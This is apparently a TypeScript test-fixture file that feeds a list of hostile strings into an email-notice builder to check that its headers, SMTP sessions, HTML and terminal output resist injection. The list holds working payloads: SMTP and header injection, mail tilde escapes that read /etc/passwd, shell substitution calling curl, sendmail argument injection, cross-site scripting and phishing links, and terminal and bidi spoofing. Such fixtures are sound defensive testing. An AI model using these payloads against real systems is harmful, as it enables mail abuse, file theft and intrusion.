/** Notices in which every text is somebody's attempt at a mail. No test in here. */
import type { BanNotice, DigestNotice, Notice } from '../../notice.ts';
import { banNotice, digestNotice, reportNotice, testNotice, toldBan } from './notices.ts';

/** Each would act somewhere: in a header, an SMTP session, `mail`, a MIME boundary, HTML, a terminal, a shell. */
export const PAYLOADS: readonly string[] = [
  'x\r\nBcc: bob@example.test',
  'x\nSubject: another\n\n<b>body</b>',
  'x\r\n\r\n.\r\nMAIL FROM:<evil@example.test>\r\nRCPT TO:<bob@example.test>\r\nDATA\r\nSubject: evil\r\n\r\n.\r\n',
  '\n~! touch /tmp/never\n~r /etc/passwd\n',
  '=?utf-8?q?a=0D=0ABcc:_bob@example.test?=',
  '\r\n--_NmP-0-Part_1\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  '<script>alert(1)</script><img src="http://192.0.2.1/x.png" onerror="alert(1)">',
  '"><a href="http://192.0.2.1/">log in again</a><meta http-equiv="refresh" content="0">',
  '</code></pre></td></tr></table></body></html><!-- ',
  "' onmouseover='alert(1)' style='position:fixed",
  '\x1b[2J\x1b]0;title\x07\x9b31m\x00\x08\x7f',
  '\u202egnp.exe\u2066\u2029\u200b\ufeff\u00ad',
  'From ana Sat Nov 28 00:00:00 2026\n.\n-- \nsignature',
  '"Ana" <bob@example.test>, carl@example.test; group: dora@example.test;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  '$(curl${IFS}http://192.0.2.1)`id`;|&{{7*7}}%0d%0aBcc:bob@example.test%s%n',
  '-oQ/tmp -X/tmp/never.php bob@example.test',
  '漢字 👩‍👩‍👧‍👦 ünïcödé \ud800 lone',
  '🙂'.repeat(300),
  `${' '.repeat(5_000)}x`,
  '',
];

export function hostileNotices(text: string): readonly Notice[] {
  return [
    hostileBan(text),
    { ...hostileBan(text), ban: { ...hostileBan(text).ban, subject: '203.0.113.7', reason: campaignOf(text) } },
    hostileDigest(text),
    reportNotice({ host: text, month: text, path: text, summary: [text, text] }),
    testNotice({ host: text, by: text }),
  ];
}

function campaignOf(user: string): BanNotice['ban']['reason'] {
  return { rule: 'campaign', user, service: user, addresses: 120, findTime: 86_400_000, since: 0 };
}

function hostileBan(text: string): BanNotice {
  const told = toldBan();
  return banNotice(
    {
      ...{ subject: text, host: text, jail: text, service: text, kind: text, block: 'refused', why: text },
      reason: { rule: 'manual', by: text, why: text },
      origin: {
        ...{
          ...told.origin,
          country: text,
          organization: text,
          organizationAsGiven: text,
          network: text,
          scanner: text,
        },
        sources: [text],
      },
      evidence: told.evidence.map((line) => ({ ...line, path: text, line: text })),
      record: {
        ...told.record,
        hosts: [text, text],
        kinds: told.record.kinds.map((kind) => ({ ...kind, name: text })),
      },
    },
    { host: text },
  );
}

function hostileDigest(text: string): DigestNotice {
  const digest = digestNotice();
  const counted = [{ name: text, count: 2 }];
  const group = { name: text, organization: text, country: text, kinds: [text], members: [text, text] };
  return {
    ...{
      ...digest,
      host: text,
      countries: counted,
      organizations: counted,
      kinds: counted,
      hosts: [...counted, ...counted],
    },
    groups: digest.groups.map((each) => ({ ...each, ...group })),
    held: [hostileBan(text).ban],
  };
}
